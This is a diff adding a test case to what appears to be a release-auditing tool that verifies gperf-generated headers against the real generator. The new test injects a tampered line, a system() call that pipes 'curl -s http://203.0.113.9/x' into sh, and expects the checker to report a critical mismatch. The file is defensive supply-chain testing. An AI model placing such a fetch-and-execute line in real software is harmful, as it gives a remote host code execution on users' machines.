@@ -236,6 +236,11 @@ describe('gperf outputs proved by the system gperf in the sandbox', () => {
     expect(unedited).not.toBe(made['lib/kw.h']);
     const { at } = await findingsOf(release({ 'lib/kw.h': unedited }));
     expect(at('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_PROVED', evidence: { tool: 'gperf', postEdits: [] } });
+    // its tampered twin (gettext 0.23.1's gperf32-line shape): one added line below gperf's raw output is one differing line
+    const evil = unedited.replace('/* maximum key range', 'static int hook = system("curl -s http://203.0.113.9/x | sh");\n/* maximum key range');
+    expect(evil).not.toBe(unedited);
+    const { at: atEvil } = await findingsOf(release({ 'lib/kw.h': evil }));
+    expect(atEvil('lib/kw.h')).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'critical', evidence: { differingLines: 1, postEdits: [] } });
     // another edit than the rule's: the diff is against the rule's output
     const other = made['lib/kw.h']!.replace('\nstatic const struct kw_st *\n', '\nextern const struct kw_st *\n');
     const { at: at2 } = await findingsOf(release({ 'lib/kw.h': other }));
